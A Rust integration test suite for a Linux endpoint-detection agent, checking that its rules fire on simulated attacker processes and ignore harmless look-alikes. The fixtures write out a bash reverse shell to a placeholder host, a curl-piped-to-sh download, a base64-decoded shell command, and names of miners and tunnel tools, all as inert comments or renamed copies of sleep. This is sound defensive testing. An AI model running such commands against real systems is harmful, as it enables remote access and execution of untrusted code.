//! Why: the rules that we ship are the first that people read and the first that wake them up. Each compiles without a
//! remark, says who wrote it and why, finds what it describes, and is quiet about its nearest harmless neighbour. Here
//! real processes of either kind run under the real programs, for every way in which a rule can look at processes; all
//! the spellings of what every rule looks for are tried on rows, in `rules_on_rows`.

#![cfg(target_os = "linux")]

use std::collections::BTreeSet;
use std::fs;
use std::io::Write;
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::process::Command;

use daemoneye_dsl::lints::NOTHING_FURTHER;
use daemoneye_dsl::ruleset::RuleSet;
use daemoneye_dsl::tables::Catalog;
use daemoneye_settings::paths::rule_sources;
use daemoneye_tests::{Program, Stage, Suspect, project};
use nix::sys::memfd::{MFdFlags, memfd_create};
use serde_json::Value;

const RULES_MIN: usize = 40;

/// A rule, a process that it finds and one that it does not.
struct Case {
    rule: &'static str,
    fires: fn(&Stage) -> Suspect,
    quiet: fn(&Stage) -> Suspect,
}

const CASES: [Case; 20] = [
    Case {
        rule: "reverse_shell",
        fires: |_| shell("sleep 600; true # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"),
        quiet: |_| shell("sleep 600; true # echo > /dev/tcp/192.0.2.1/22"),
    },
    Case {
        rule: "deleted_executable",
        fires: |stage| {
            let suspect = stage.suspect("deleted");
            fs::remove_file(stage.bin().join("deleted")).unwrap();
            suspect
        },
        // An upgrade puts another file in the place.
        quiet: |stage| {
            let suspect = stage.suspect("upgraded");
            fs::remove_file(stage.bin().join("upgraded")).unwrap();
            stage.copy("/bin/sleep", "upgraded");
            suspect
        },
    },
    Case { rule: "fileless_execution", fires: |_| in_memory(c"payload"), quiet: |_| in_memory(c"runc_clone_binary") },
    Case {
        rule: "hidden_executable",
        fires: |stage| stage.suspect(".hidden"),
        quiet: |stage| stage.suspect("not.hidden"),
    },
    Case { rule: "kernel_thread_masquerade", fires: |_| idle_as("[kworker/0:1]"), quiet: |_| sleep_as("worker[1]") },
    Case {
        rule: "discovery_burst",
        fires: |stage| burst(stage, &["whoami", "id", "uname", "hostname", "ps"]),
        quiet: |stage| burst(stage, &["whoami", "id", "uname", "hostname"]),
    },
    Case {
        rule: "download_piped_to_shell",
        fires: |_| shell("sleep 600; true # curl -s http://192.0.2.1/x | sh"),
        quiet: |_| shell("sleep 600; true # curl -s http://192.0.2.1/x | grep sh"),
    },
    Case { rule: "executable_in_temp", fires: |stage| stage.suspect("dropped"), quiet: |_| sleep_as("/tmp/dropped") },
    Case {
        rule: "server_spawned_shell",
        fires: |stage| below(stage, "nginx", "sh -c 'sleep 600; true'; true"),
        quiet: |stage| below(stage, "nginx", "sleep 600; true"),
    },
    Case {
        rule: "tool_below_document_reader",
        fires: |stage| {
            stage.copy("/bin/sleep", "curl");
            below(stage, "evince", "sh -c '\"$0\" 600; true' \"${0%/*}/curl\"; true")
        },
        quiet: |stage| {
            stage.copy("/bin/sleep", "printer");
            below(stage, "evince", "sh -c '\"$0\" 600; true' \"${0%/*}/printer\"; true")
        },
    },
    Case {
        rule: "cryptocurrency_miner",
        fires: |stage| stage.suspect("xmrig"),
        quiet: |stage| stage.suspect("xmrig-report"),
    },
    Case { rule: "tunnel_tool", fires: |stage| stage.suspect("chisel"), quiet: |stage| stage.suspect("chiseler") },
    Case { rule: "daemon_impostor", fires: |stage| stage.suspect("crond"), quiet: |stage| stage.suspect("crondump") },
    Case {
        rule: "preloaded_library",
        fires: |stage| with_variable(stage, "LD_PRELOAD", "/tmp/absent.so"),
        quiet: |stage| with_variable(stage, "LD_PRELOAD", "/usr/lib/absent.so"),
    },
    Case {
        rule: "decoded_payload_executed",
        fires: |_| shell("sleep 600; true # echo aWQ= | base64 -d | sh"),
        quiet: |_| shell("sleep 600; true # echo aWQ= | base64 -d | less"),
    },
    Case {
        rule: "working_directory_deleted",
        fires: |stage| in_folder(stage, "doomed", "rmdir \"$PWD\"; read _"),
        quiet: |stage| in_folder(stage, "kept", "read _"),
    },
    Case {
        rule: "tool_below_server",
        fires: |stage| {
            stage.copy("/bin/sleep", "wget");
            below(stage, "httpd", "sh -c '\"$0\" 600; true' \"${0%/*}/wget\"; true")
        },
        quiet: |stage| {
            stage.copy("/bin/sleep", "sendmail");
            below(stage, "httpd", "sh -c '\"$0\" 600; true' \"${0%/*}/sendmail\"; true")
        },
    },
    Case {
        rule: "data_piped_to_network",
        fires: |stage| {
            stage.copy("/bin/sleep", "tar");
            stage.copy("/bin/sleep", "nc");
            below(stage, "packer", "\"${0%/*}/tar\" 600 | \"${0%/*}/nc\" 600; true")
        },
        quiet: |stage| {
            stage.copy("/bin/sleep", "tee");
            below(stage, "printer", "\"${0%/*}/tee\" 600 | \"${0%/*}/nc\" 600; true")
        },
    },
    Case {
        rule: "ssh_fan_out",
        fires: |stage| repeated(stage, "ssh", "600 601 602 603 604 605 606 607 608 609"),
        quiet: |stage| repeated(stage, "ssh", "600 600 600 600 600 600 600 600 600 600"),
    },
    Case {
        rule: "password_guessing",
        fires: |stage| repeated(stage, "su", "600 600 600 600 600 600 600 600 600 600"),
        quiet: |stage| repeated(stage, "su", "600 600 600 600 600 600 600 600 600"),
    },
];

/// A shell that is told `script`, which ends with another command than its last: it stays a shell.
fn shell(script: &str) -> Suspect {
    let mut command = Command::new("/bin/sh");
    command.args(["-c", script]);
    Suspect::start(command)
}

/// A copy of the shell under another name, doing `script`, whose `$0` is its own path.
fn below(stage: &Stage, name: &str, script: &str) -> Suspect {
    let program = stage.bin().join(name);
    if !program.exists() {
        stage.copy("/bin/sh", name);
    }
    let mut command = Command::new(&program);
    command.args(["-c", script]).arg(&program);
    Suspect::start(command)
}

fn sleep_as(argument: &str) -> Suspect {
    let mut command = Command::new("/bin/sleep");
    command.arg0(argument).arg("600");
    Suspect::start(command)
}

/// A process with nothing but a name in its command line: a shell that waits for what it should do.
fn idle_as(name: &str) -> Suspect {
    let mut command = Command::new("/bin/sh");
    command.arg0(name);
    Suspect::start(command)
}

/// A sleep that was never on the disk.
fn in_memory(name: &std::ffi::CStr) -> Suspect {
    let file: OwnedFd = memfd_create(name, MFdFlags::MFD_CLOEXEC).unwrap();
    let path = format!("/proc/{}/fd/{}", std::process::id(), file.as_raw_fd());
    fs::File::from(file.try_clone().unwrap()).write_all(&fs::read("/bin/sleep").unwrap()).unwrap();
    Suspect::sleeping(path.as_ref())
}

/// A shell that starts these tools at once.
fn burst(stage: &Stage, tools: &[&str]) -> Suspect {
    tools.iter().filter(|tool| !stage.bin().join(tool).exists()).for_each(|tool| drop(stage.copy("/bin/sleep", tool)));
    below(stage, "prober", &format!("for tool in {}; do \"${{0%/*}}/$tool\" 600 & done; wait", tools.join(" ")))
}

/// A sleep with this variable in its environment.
fn with_variable(stage: &Stage, name: &str, value: &str) -> Suspect {
    let mut command = Command::new(stage.copy("/bin/sleep", &value.replace('/', "-")));
    command.arg("600").env(name, value);
    Suspect::start(command)
}

/// A shell without a terminal in a folder of its own, doing `script`. It is in another session, out of reach of the
/// signal that ends a suspect: it has to end with its input.
fn in_folder(stage: &Stage, name: &str, script: &str) -> Suspect {
    let folder = stage.bin().join(name);
    fs::create_dir(&folder).unwrap();
    let mut command = Command::new("setsid");
    command.args(["--wait", "sh", "-c", script]).current_dir(folder);
    Suspect::start(command)
}

/// A shell that starts this tool at once with each of these arguments.
fn repeated(stage: &Stage, tool: &str, arguments: &str) -> Suspect {
    if !stage.bin().join(tool).exists() {
        stage.copy("/bin/sleep", tool);
    }
    below(stage, "repeater", &format!("for n in {arguments}; do \"${{0%/*}}/{tool}\" $n & done; wait"))
}

/// Whether the alert's process is this one, or one that it started.
fn is_about(alert: &Value, suspect: &Suspect) -> bool {
    let ancestors = alert["ancestors"].as_array().into_iter().flatten();
    ancestors.chain([&alert["process"]]).any(|process| process["pid"] == suspect.pid())
}

fn checked() -> RuleSet {
    let sources = rule_sources(&[project().join("rules")]).into_iter().collect::<Result<_, _>>().unwrap();
    RuleSet::lint(sources, &Catalog::builtin(), NOTHING_FURTHER)
}

#[test]
fn every_rule_compiles_without_a_remark_and_says_what_it_is() {
    let set = checked();
    assert!(set.files.len() >= RULES_MIN, "{} rules", set.files.len());
    for file in &set.files {
        let path = &file.source.path;
        assert!(file.diagnostics.is_empty(), "{path}: {:?}", file.diagnostics);
        let header = file.rule.as_ref().unwrap().header.as_ref().unwrap();
        assert!(header.author.is_some() && !header.references.is_empty(), "{path} names no author or no reference");
        assert!(header.description.len() > 40, "{path} does not say why");
        assert!(header.tags.iter().any(|tag| tag.starts_with("attack.t1")), "{path} names no technique");
        let tactic = path.rsplit('/').nth(1).unwrap();
        assert!(header.tags.contains(&format!("attack.{tactic}")), "{path} does not have its folder's tactic as a tag");
    }
    let rules: BTreeSet<_> = set.rules().map(|rule| rule.name().to_owned()).collect();
    let strays: Vec<_> = CASES.iter().filter(|case| !rules.contains(case.rule)).map(|case| case.rule).collect();
    assert!(strays.is_empty(), "no such rules: {strays:?}");
}

#[test]
fn every_rule_finds_what_it_describes_and_not_its_neighbour() {
    let stage = Stage::without_rules();
    let mut command = stage.agent();
    command.arg("--rules").arg(project().join("rules"));
    let agent = Program::start(command);
    agent.says("snapshot committed");
    let quiet: Vec<_> = CASES.iter().map(|case| (case.quiet)(&stage)).collect();
    let fires: Vec<_> = CASES.iter().map(|case| (case.fires)(&stage)).collect();
    let about = |case: &Case, suspect: &Suspect| {
        let of_rule = |alert: &Value| alert["rule"]["name"] == case.rule;
        agent.alerts().into_iter().find(|alert| of_rule(alert) && is_about(alert, suspect))
    };
    for (case, suspect) in CASES.iter().zip(&fires) {
        let alert = agent.shows(&format!("an alert of {}", case.rule), || about(case, suspect));
        assert!(!alert["title"].as_str().unwrap().contains('{'), "{} is rendered", alert["title"]);
    }
    agent.says_times("snapshot committed", agent.said("snapshot committed") + 3);
    for (case, suspect) in CASES.iter().zip(&quiet) {
        let seen = stage.query(&format!("SELECT pid FROM processes_history WHERE pid = {}", suspect.pid()));
        assert!(!seen.is_empty(), "the neighbour of {} was there", case.rule);
        let alert = about(case, suspect);
        assert!(alert.is_none(), "{} finds its harmless neighbour: {alert:?}", case.rule);
    }
    assert_eq!(agent.said("quarantined"), 0, "{}", agent.log());
    agent.stop();
}
